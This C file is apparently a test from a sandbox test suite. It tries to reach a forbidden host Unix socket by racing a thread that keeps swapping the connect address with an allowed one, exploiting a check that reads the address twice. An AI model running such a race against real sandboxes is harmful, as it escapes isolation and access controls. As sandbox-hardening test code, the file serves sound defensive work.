/* Connects to a host socket while another thread swaps the address between that of an allowed socket of its own and the host's:
 * whoever checks the address must not read it twice (IPC; pitfall 2). */
#include "attack.h"
#include <pthread.h>

static struct sockaddr_un raced, own, host;
static volatile int done;

static void *swapper(void *unused)
{
	while (!done) {
		memcpy(&raced, &own, sizeof own);
		memcpy(&raced, &host, sizeof host);
	}
	return unused;
}

int main(int argc, char **argv)
{
	pthread_t thread;
	own.sun_family = host.sun_family = AF_UNIX;
	snprintf(own.sun_path, sizeof own.sun_path, "%s/raced-socket-%d", argv[2], getpid());
	snprintf(host.sun_path, sizeof host.sun_path, "%s", argv[1]);
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);
	tried();
	if (bind(listener, (void *)&own, sizeof own) || listen(listener, 4096))
		denied("a socket of its own");
	fcntl(listener, F_SETFL, O_NONBLOCK);
	pthread_create(&thread, 0, swapper, 0);
	for (int i = 0; i < 5000; i++) {
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
		connect(fd, (void *)&raced, sizeof raced);
		close(fd);
		close(accept4(listener, 0, 0, SOCK_NONBLOCK));
	}
	done = 1;
	pthread_join(thread, 0);
	unlink(own.sun_path);
	return 0;
}
